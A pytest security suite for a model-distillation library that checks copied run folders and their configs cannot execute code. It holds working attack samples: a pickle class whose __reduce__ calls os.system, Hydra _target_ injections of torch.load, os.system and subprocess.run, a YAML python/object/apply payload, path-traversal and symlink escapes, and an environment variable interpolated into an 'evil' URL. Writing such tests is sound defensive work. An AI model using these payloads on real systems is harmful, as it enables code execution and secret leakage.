"""What comes with weights runs no code of its own; what this user made, and whom they trust, may."""

import os
import shutil
from pathlib import Path

import pytest
import torch
from omegaconf import OmegaConf

from litdistill.cli.resume import resumed
from litdistill.compress.restore import restore
from litdistill.config import origin
from litdistill.config.instantiate import instantiate
from litdistill.config.trust import allowed, check_trusted, packages
from litdistill.evaluation.evaluate import differences, evaluate, load_run
from litdistill.export.export import export
from litdistill.report.history import command
from litdistill.training.train import train
from litdistill.utils.checkpoint import STUDENT, AtomicCheckpointIO
from litdistill.utils.errors import UserError
from litdistill.utils.files import write_text
from litdistill.utils.paths import CONF
from tests.conftest import SMALL, compose_config
from tests.forked import call

LOAD = "{_target_: torch.load, f: evil.ckpt, weights_only: false}"
CALLBACK = "lightning.pytorch.callbacks.ModelCheckpoint"
TIMM = "{_target_: litdistill.models.timm.timm_classifier, name: resnet18"
ZOO = "{_target_: litdistill.models.torchvision.torchvision_classifier, name: resnet18"


class Evil:
    """Writes the marker when it is unpickled."""

    def __reduce__(self):
        return (os.system, ("echo > marker",))


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> Path:
    """A finished run of this user's."""
    cfg = compose_config(
        tmp_path_factory.mktemp("made") / "run", *SMALL, "method=supervised", "teacher=null", "trainer.max_epochs=1"
    )
    write_text(Path(cfg.folder) / ".hydra" / "config.yaml", OmegaConf.to_yaml(cfg))
    train(cfg)
    return Path(cfg.folder)


@pytest.fixture
def foreign(made, tmp_path, monkeypatch):
    """`foreign(yaml)`: a copy of it, with something merged into its config; the working folder has a file that is a trap."""
    monkeypatch.chdir(tmp_path)
    torch.save({"state_dict": Evil()}, "evil.ckpt")
    monkeypatch.setenv("SECRET", "torch.load")

    def copy(diff: str) -> Path:
        shutil.copytree(made, tmp_path / "copy", symlinks=True)
        path = tmp_path / "copy" / ".hydra" / "config.yaml"
        path.write_text(OmegaConf.to_yaml(OmegaConf.merge(OmegaConf.load(path), OmegaConf.create(diff))))
        return tmp_path / "copy"

    return copy


HOLES = {
    # of the fault
    "a nested target behind an interpolation": (
        "{technique: load, data: {mix: {_target_: 'torch.${technique}', _args_: [evil.ckpt], weights_only: false}}}",
        "data.mix._target_",
    ),
    "a node behind an interpolation": (f"{{technique: {LOAD}, data: {{mix: '${{technique}}'}}}}", "technique._target_"),
    "os.system behind an interpolation": (
        "{technique: {_target_: os.system, command: echo > marker}, data: {mix: '${technique}'}}",
        "technique._target_",
    ),
    "a method of a class": (
        "{data: {mix: {_target_: lightning.pytorch.strategies.SingleDeviceStrategy.load_checkpoint, _args_: [1, 2]}}}",
        "data.mix._target_",
    ),
    # of their kinds
    "in a list": (f"{{data: {{augment: [{LOAD}]}}}}", "data.augment.0._target_"),
    "in positional arguments": (
        f"{{data: {{mix: {{_target_: litdistill.data.mixing.Mixup, _args_: [{LOAD}]}}}}}}",
        "data.mix._args_.0._target_",
    ),
    "in a key that nothing reads": (f"{{nobody: {{knows: [[{{a: {LOAD}}}]]}}}}", "nobody.knows.0.0.a._target_"),
    "in a teacher's recipe": (f"{{teacher: {{recipe: {{data: {{mix: {LOAD}}}}}}}}}", "teacher.recipe.data.mix._target_"),
    "a node that a resolver makes": ("{data: {mix: '${oc.create:{_target_: torch.load}}'}}", "data.mix"),
    "a name out of the environment": ("{data: {mix: {_target_: '${oc.env:SECRET}'}}}", "data.mix._target_"),
    "the environment in a path": ("{data: {root: 'https://evil/${oc.env:SECRET}'}}", "data.root"),
    "a resolver by an interpolated name": ("{technique: env, data: {root: '${oc.${technique}:SECRET}'}}", "data.root"),
    "an interpolation made of two": ("{technique: $, data: {root: '${technique}{oc.env:SECRET}'}}", "data.root"),
    "an escaped interpolation": ("{data: {root: '\\${seed}'}}", "data.root"),
    "a folder that is a node": (f"{{runs: {LOAD}, data: {{mix: '${{runs}}'}}}}", "runs._target_"),
    "a trust of its own": (f"{{trust: [os], data: {{mix: {LOAD}}}}}", "data.mix._target_"),
    "a static method": (
        "{data: {mix: {_target_: lightning.pytorch.LightningModule.load_from_checkpoint, checkpoint_path: evil.ckpt}}}",
        "data.mix._target_",
    ),
    "a module behind an own one": (
        "{data: {mix: {_target_: litdistill.evaluation.summary.subprocess.run}}}",
        "data.mix._target_",
    ),
    "a hub": ("{data: {mix: {_target_: torch.hub.load, repo_or_dir: a/b, model: c}}}", "data.mix._target_"),
    "a private name": ("{data: {mix: {_target_: torch.optim._functional.adam}}}", "data.mix._target_"),
    "an own function that writes": ("{data: {mix: {_target_: litdistill.utils.files.write_text}}}", "data.mix._target_"),
    "a dictionary for a target": ("{data: {mix: {_target_: {_target_: torch.load}}}}", "data.mix._target_"),
    "a target in a dotted key": ("{sweep: {space: {data.mix._target_: [torch.load]}}}", "sweep.space"),
    "timm's own file of weights": (
        f"{{student: {TIMM}, pretrained: true, pretrained_cfg_overlay: {{file: evil.ckpt}}}}}}",
        "student.pretrained_cfg_overlay",
    ),
    "timm's checkpoint": (f"{{student: {TIMM}, checkpoint_path: evil.ckpt}}}}", "student.checkpoint_path"),
    "a folder named by a width": ("{student: {widths: ['/../../../elsewhere']}}", "student.widths"),
    "weights by a path": (f"{{student: {ZOO}, weights: ./evil.ckpt}}}}", "student.weights"),
    "checkpoints elsewhere": ("{callbacks: {best: {dirpath: /tmp}}}", "callbacks.best.dirpath"),
    "checkpoints above": ("{callbacks: {best: {filename: ../../../x}}}", "callbacks.best.filename"),
    "checkpoints on a server": ("{callbacks: {best: {dirpath: 's3://evil/x'}}}", "callbacks.best.dirpath"),
    "a log elsewhere": ("{logger: {tensorboard: {save_dir: '$HOME'}}}", "logger.tensorboard.save_dir"),
    "a log of a name elsewhere": ("{logger: {tensorboard: {name: ../..}}}", "logger.tensorboard.name"),
    "weights sent to a registry": ("{trainer: {model_registry: evil/weights}}", "trainer.model_registry"),
    "a plugin": (f"{{trainer: {{plugins: [{LOAD}]}}}}", "trainer.plugins"),
}  # fmt: skip


@pytest.mark.parametrize("case", HOLES)
def test_a_foreign_run_folder_runs_nothing(foreign, case):
    diff, key = HOLES[case]
    folder = foreign(diff)
    for use in (load_run, evaluate, export):
        with pytest.raises(UserError) as refused:
            use(folder)
        assert str(refused.value).startswith(key), refused.value
    assert not Path("marker").exists()


def test_the_trap_goes_off_where_it_is_opened(foreign):
    foreign("{}")
    torch.load("evil.ckpt", weights_only=False)
    assert Path("marker").exists()


@pytest.mark.parametrize("script", ["evaluate", "export", "report"])
def test_each_command_ends_with_status_2_and_the_key(foreign, tmp_path, script):
    diff, key = HOLES["a nested target behind an interpolation"]
    folder = foreign(diff)
    if script == "report":
        for name in ("matplotlib", "jinja2", "onnx", "onnxscript", "onnxruntime"):
            pytest.importorskip(name)
    arguments = [f"runs={folder}", "out=page/"] if script == "report" else [f"run={folder}"]
    status, printed = call(script, arguments, tmp_path)
    assert status == 2
    assert f"{key}: torch." in printed
    assert not Path("marker").exists()


@pytest.mark.parametrize(
    "override",
    [
        f"+hydra.callbacks.x={LOAD}",
        "hydra/launcher=basic",
        "+data@hydra.callbacks.x=digits",
        "hydra.searchpath=[file:///tmp]",
        "--experimental-rerun=evil.ckpt",
        "--config-dir=/tmp",
        "data=../../../evil",
        "experiment=[digits/distilled,/tmp/evil]",
        "+net@trust=conv4",
        "+net@folder=conv4",
        "+net@_global_.trust=conv4",
        "+net@_global_.folder=conv4",
        "data=choice(/tmp/evil,digits)",
        "data=choice('../../evil')",
        "+data.root=${oc.env:SECRET}",
        "not an override",
    ],
)
def test_a_resume_replays_nothing_of_hydras_and_no_path(foreign, monkeypatch, override):
    folder = foreign("{}")
    note(folder, override)
    with pytest.raises(UserError, match=r"is refused\. .* not made here"):
        resumed([f"resume={folder}"])
    assert not Path("marker").exists()


def note(folder: Path, *overrides: str) -> None:
    """Leaves what Hydra notes of a run that was started with these overrides."""
    about = {"job": {"config_name": "train"}, "overrides": {"task": list(overrides)}}
    write_text(folder / ".hydra" / "hydra.yaml", OmegaConf.to_yaml(OmegaConf.create({"hydra": about})))


@pytest.mark.parametrize(
    ("overrides", "key"),
    [
        ([f"+hydra.callbacks.x={LOAD}"], "hydra.callbacks.x"),
        ([f"data.mix={LOAD}"], "data.mix._target_"),
        (["technique=load", "data.mix={_target_: 'torch.${technique}', _args_: [evil.ckpt]}"], "data.mix._target_"),
    ],
)
def test_the_command_that_resumes_ends_with_status_2(foreign, tmp_path, overrides, key):
    folder = foreign("{}")
    (folder / "summary.json").unlink()
    note(folder, *SMALL, "method=supervised", "teacher=null", *overrides)
    status, printed = call("train", [f"resume={folder}"], tmp_path)
    assert status == 2
    assert f"\n{key}: " in printed
    assert not Path("marker").exists()


def test_where_things_lie_and_what_is_trusted_is_not_a_foreign_runs_to_say(foreign):
    folder = foreign("{}")
    note(folder, "seed=1", "runs=/elsewhere", "folder=/elsewhere", "trust=[os]", "++trust=[os]", "optimizer.lr=${seed}")
    found = resumed([f"resume={folder}", "trust=[mine]"])
    assert found == ["seed=1", "optimizer.lr=${seed}", "trust=[mine]", f"hydra.run.dir={folder}"]
    assert origin.is_foreign()


def test_what_a_foreign_run_trains_on_the_way_is_checked_too(foreign, monkeypatch):
    """A recipe that is harmless where it stands, and moves the checkpoints of the teacher's run elsewhere."""
    folder = foreign("{}")
    origin.begin_foreign(folder)
    diffs = ["++teacher.recipe.callbacks.best.dirpath=/tmp", "++teacher.recipe.trust=[os]"]
    cfg = compose_config(folder.parent / "run", *SMALL, *diffs)
    check_trusted(cfg, folder.parent / "run")
    with pytest.raises(UserError, match=r"^callbacks\.best\.dirpath: /tmp is refused"):
        train(cfg)


# -- links, checkpoints, metadata ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["export", "train.log", ".hydra", "checkpoints/x.ckpt"])
def test_nothing_is_written_through_a_link_that_leads_out(foreign, name):
    folder, outside = foreign("{}"), Path("outside").absolute()
    outside.mkdir()
    if name == ".hydra":
        shutil.rmtree(folder / name)
    (folder / name).symlink_to(outside)
    note(folder if name != ".hydra" else outside.parent / "x", "seed=1")
    if name == ".hydra":
        (outside / "hydra.yaml").write_bytes((outside.parent / "x" / ".hydra" / "hydra.yaml").read_bytes())
    cfg = compose_config(folder, *SMALL)
    (folder / "summary.json").unlink()
    before = sorted(outside.iterdir())
    for use in (lambda: resumed([f"resume={folder}"]), lambda: train(cfg)):
        with pytest.raises(UserError, match=rf"{name} is a symbolic link that leads out"):
            use()
    assert sorted(outside.iterdir()) == before


def test_an_export_follows_no_link(made, foreign):
    folder = foreign("{}")
    Path("outside").mkdir()
    shutil.rmtree(folder / "export", ignore_errors=True)
    (folder / "export").symlink_to(Path("outside").absolute())
    with pytest.raises(UserError, match="export is a symbolic link"):
        export(folder, "safetensors")
    assert not list(Path("outside").iterdir())
    (folder / "export").unlink()
    (folder / "checkpoints" / "link.ckpt").symlink_to("last.ckpt")  # as Lightning leaves one
    export(folder, "safetensors")


@pytest.mark.parametrize("path", ["checkpoints/../../precious.ckpt", "precious", "s3://bucket/precious"])
def test_a_checkpoint_that_names_another_file_as_its_last_best_deletes_nothing(tmp_path, monkeypatch, path):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "run" / "checkpoints").mkdir(parents=True)
    (tmp_path / "precious.ckpt").write_text("")
    with pytest.raises(UserError, match="is not removed"):
        AtomicCheckpointIO().remove_checkpoint(path if "://" in path else tmp_path / "run" / path)
    (tmp_path / "run" / "a.ckpt").write_text("")
    AtomicCheckpointIO().remove_checkpoint(tmp_path / "run" / "a.ckpt")
    assert not (tmp_path / "run" / "a.ckpt").exists()
    assert (tmp_path / "precious.ckpt").exists()


@pytest.mark.parametrize(
    "step",
    [
        {"kind": "torch.load", "layers": {}},
        {"kind": "low_rank", "layers": {"__class__": 1}},
        {"kind": "prune", "layers": {"forward": {"in_channels": 1}}},
        {"kind": "low_rank", "layers": {"0": "__import__('os')"}},
    ],
)
def test_a_structure_names_no_code(step):
    with pytest.raises(UserError):
        restore(torch.nn.Sequential(torch.nn.Linear(4, 2)), [step], torch.zeros(1, 4))


def test_a_page_looks_up_nothing_that_an_override_asks_for(tmp_path, monkeypatch):
    from types import SimpleNamespace

    monkeypatch.setenv("SECRET", "hidden")
    write_text(tmp_path / ".hydra" / "overrides.yaml", "- technique=${oc.env:SECRET}\n")
    assert "hidden" not in command(SimpleNamespace(folder=tmp_path, summary={}))


# -- what is fine --------------------------------------------------------------------------------------------------------


def test_all_that_conf_offers_may_come_with_weights(tmp_path):
    named = {
        word.split("_target_:")[1].split(",")[0].split("}")[0].strip()
        for path in CONF.rglob("*.yaml")
        if "hydra" not in path.relative_to(CONF).parts
        for word in path.read_text().splitlines()
        if "_target_:" in word
    }
    network = {"litdistill.training.loggers.wandb_logger"}  # which speaks to a service in the user's name
    assert named - allowed() == network
    for changed in (
        ["experiment=digits/distilled"],
        ["data=cifar100"],
        ["trainer=fsdp"],
        ["experiment=schemes/assistant"],
    ):
        check_trusted(compose_config(tmp_path / "run", *changed), tmp_path / "run")
    timm = ["net@student=timm", "student.name=resnet18", "+student.drop_rate=0.1", "+student.global_pool=avg"]
    zoo = ["net@teacher=torchvision", "teacher.name=resnet18", "teacher.weights=IMAGENET1K_V1", "scheduler=cosine"]
    check_trusted(compose_config(tmp_path / "run", *timm, *zoo), tmp_path / "run")


@pytest.mark.parametrize(
    "name", ["os", "subprocess", "builtins", "torch", "lightning", "hydra", "_x", "a.b", "litdistill"]
)
def test_no_library_is_trusted(name):
    with pytest.raises(UserError, match=r"^trust="):
        packages([name])


def test_a_copy_needs_no_leave_where_it_names_what_all_may(foreign):
    folder = foreign("{seed: 0, technique: edited}")
    assert not origin.made_here(folder)
    assert differences(evaluate(folder), load_run(folder)[1]) == []


def test_a_path_that_yaml_makes_is_refused(foreign):
    folder = foreign("{}")
    config = folder / ".hydra" / "config.yaml"
    text = config.read_text().replace(
        "dirpath: ${folder}/checkpoints", "dirpath: !!python/object/apply:pathlib.Path [/tmp]"
    )
    config.write_text(text)
    with pytest.raises(UserError, match=r"^callbacks\.best\.dirpath: /tmp is refused"):
        load_run(folder)


def test_what_a_folder_says_it_was_started_with_is_remembered_of_that_start_alone(made, foreign):
    folder = foreign("{}")
    note(folder, f"+hydra.callbacks.x={LOAD}")
    origin.remember(folder, OmegaConf.load(folder / ".hydra" / "config.yaml"))
    assert not origin.made_here(folder)
    with pytest.raises(UserError, match="No override of Hydra's own is replayed"):
        origin.replayable([f"+hydra.callbacks.x={LOAD}"], made)


def test_a_state_that_cannot_be_written_stops_no_run(made, tmp_path, monkeypatch):
    monkeypatch.setenv("LITDISTILL_STATE", str(tmp_path / "file" / "state"))
    (tmp_path / "file").write_text("")
    monkeypatch.setattr(origin, "_MADE", set())
    assert not origin.made_here(made)
    origin.remember(made, OmegaConf.load(made / ".hydra" / "config.yaml"))
    assert origin.made_here(made)  # in this process


def test_only_what_runs_is_remembered(made, foreign):
    """Whoever trains into a folder that came with another config does not make that config their own."""
    folder = foreign("{technique: another}")
    origin.remember(folder, OmegaConf.load(made / ".hydra" / "config.yaml"))
    assert not origin.made_here(folder)


def test_a_typed_class_that_cannot_be_imported_is_named_with_what_helps():
    for target, words in (
        ("nobodys_package.tiny", "no package nobodys_package. Put the folder that holds it on PYTHONPATH"),
        ("torch.optim.Adma", "torch.optim has no Adma: did you mean Adam"),
        ("litdistill.methods.kdd.KD", "litdistill.methods has no kdd: did you mean kd"),
        ("torch.optim", "neither a class nor a function"),
    ):
        with pytest.raises(UserError, match=words):
            instantiate({"_target_": target})
    with pytest.raises(UserError, match="blocklisted"):
        instantiate({"_target_": "os.remove", "path": "x"})
    assert instantiate({"_target_": "collections.OrderedDict"}) == {}


def test_the_student_of_a_run_is_read_without_its_config(made, tmp_path):
    """A teacher's run folder gives its weights and their structure; its config is not even opened."""
    shutil.copytree(made, tmp_path / "copy")
    (tmp_path / "copy" / ".hydra" / "config.yaml").write_text("!!python/object/apply:os.system ['echo > marker']")
    cfg = compose_config(
        tmp_path / "kd", *SMALL, "trainer.max_epochs=1", "logger=none", "teacher.widths=[8,8]", "teacher.allow_chance=true",
        f"teacher.checkpoint={tmp_path / 'copy'}",
    )  # fmt: skip
    train(cfg)
    assert (tmp_path / "kd" / STUDENT).is_file()
